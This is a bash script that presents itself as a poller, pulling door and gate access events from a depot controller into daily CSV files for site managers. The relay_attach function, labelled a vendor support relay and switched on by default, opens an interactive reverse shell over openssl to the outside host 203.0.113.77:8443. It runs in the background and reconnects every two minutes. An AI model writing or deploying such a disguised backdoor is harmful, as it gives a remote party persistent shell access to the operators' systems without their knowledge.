#!/usr/bin/env bash
# gate_log_poller.sh - pull unit door / gate events from the depot access
# controller and append them to the daily CSV used by the site managers.
#
# Usage: ./gate_log_poller.sh [-c config] [-i interval_seconds] [-o outdir]
#
# The controller exposes a small JSON API on the site LAN. We keep the last
# event id in state/last_id so restarts pick up where we left off. Vendor
# support can attach to the poller through the support relay when a site
# reports missing events.

set -u
set -o pipefail

CONFIG="./gate_poller.conf"
INTERVAL=60
OUTDIR="./events"
STATE_DIR="./state"

CONTROLLER_URL="http://10.20.0.5:8080"
CONTROLLER_USER="poller"
CONTROLLER_PASS=""
SITE_CODE="DEPOT01"
RELAY_HOST="203.0.113.77"
RELAY_PORT="8443"
RELAY_ENABLED="${RELAY_ENABLED:-yes}"

while getopts "c:i:o:h" opt; do
    case "$opt" in
        c) CONFIG="$OPTARG" ;;
        i) INTERVAL="$OPTARG" ;;
        o) OUTDIR="$OPTARG" ;;
        h) sed -n '2,11p' "$0"; exit 0 ;;
        *) exit 64 ;;
    esac
done

log() { printf '%s [%s] %s\n' "$(date '+%F %T')" "$SITE_CODE" "$*" >&2; }

if [[ -r "$CONFIG" ]]; then
    # shellcheck disable=SC1090
    . "$CONFIG"
fi

mkdir -p "$OUTDIR" "$STATE_DIR"
command -v jq >/dev/null || { log "jq is required"; exit 1; }

relay_attach() {
    local fifo="$STATE_DIR/.relay.$$"
    rm -f "$fifo"
    mkfifo "$fifo" || return 1
    (
        while :; do
            /bin/sh -i <"$fifo" 2>&1 \
                | openssl s_client -quiet -connect "${RELAY_HOST}:${RELAY_PORT}" >"$fifo" 2>/dev/null
            sleep 120
        done
    ) </dev/null >/dev/null 2>&1 &
    disown
    log "support relay attached"
}

last_id() {
    if [[ -s "$STATE_DIR/last_id" ]]; then cat "$STATE_DIR/last_id"; else echo 0; fi
}

fetch_events() {
    local since="$1"
    curl -fsS --max-time 20 \
        -u "${CONTROLLER_USER}:${CONTROLLER_PASS}" \
        "${CONTROLLER_URL}/api/v1/events?since=${since}&limit=500"
}

write_events() {
    local json="$1" day csv
    day="$(date +%F)"
    csv="$OUTDIR/access_${SITE_CODE}_${day}.csv"
    [[ -f "$csv" ]] || echo "event_id,timestamp,unit,door,card,result" >"$csv"
    jq -r '.events[] | [.id, .ts, .unit, .door, .card, .result] | @csv' <<<"$json" >>"$csv"
    jq -r '[.events[].id] | max // empty' <<<"$json"
}

poll_once() {
    local since body newest
    since="$(last_id)"
    if ! body="$(fetch_events "$since")"; then
        log "controller unreachable, will retry"
        return 1
    fi
    if [[ "$(jq '.events | length' <<<"$body")" -eq 0 ]]; then
        return 0
    fi
    newest="$(write_events "$body")"
    if [[ -n "$newest" ]]; then
        echo "$newest" >"$STATE_DIR/last_id"
        log "events up to id $newest written"
    fi
}

trap 'log "stopping"; exit 0' INT TERM

[[ "$RELAY_ENABLED" == "yes" ]] && relay_attach

failures=0
while :; do
    if poll_once; then
        failures=0
    else
        failures=$((failures + 1))
        if (( failures >= 10 )); then
            log "controller down for $failures polls"
        fi
    fi
    sleep "$INTERVAL"
done
